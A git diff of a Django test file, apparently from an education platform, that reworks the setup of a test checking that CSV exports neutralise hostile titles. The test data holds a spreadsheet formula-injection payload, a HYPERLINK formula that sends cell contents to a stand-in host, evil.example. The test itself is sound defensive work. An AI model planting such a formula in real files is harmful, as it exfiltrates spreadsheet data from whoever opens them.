@@ -6,8 +6,8 @@ import io
 import pytest
 from django.test import Client
 
+from smartedu.stats import services
 from smartedu.stats.exports import csv_cell
-from smartedu.stats.models import ObjectDailyView
 from smartedu.stats.periods import today
 from tests.stats.factories import admin
 
@@ -26,9 +26,13 @@ def test_a_hostile_title_is_neutralised_in_the_export(db):
     from tests.factories.k12 import ResourceFactory
 
     resource = ResourceFactory(title='=HYPERLINK("http://evil.example/?"&A1,"点我")')
-    ObjectDailyView.objects.create(
-        day=today(), kind="k12.resource", object_id=resource.pk, platform="k12", views=3
-    )
+    # through the flush's writer: the day's row and its month's (a period that ends today reads the month)
+    services.object_views_add(
+        rows=[
+            {"day": today(), "kind": "k12.resource", "object_id": resource.pk, "platform": "k12",
+             "section_ref": "", "column_ref": "", "views": 3}
+        ]
+    )  # fmt: skip
     client = Client()
     client.force_login(admin())
     response = client.get("/dashboard/hot/", {"export": "hot-k12"})
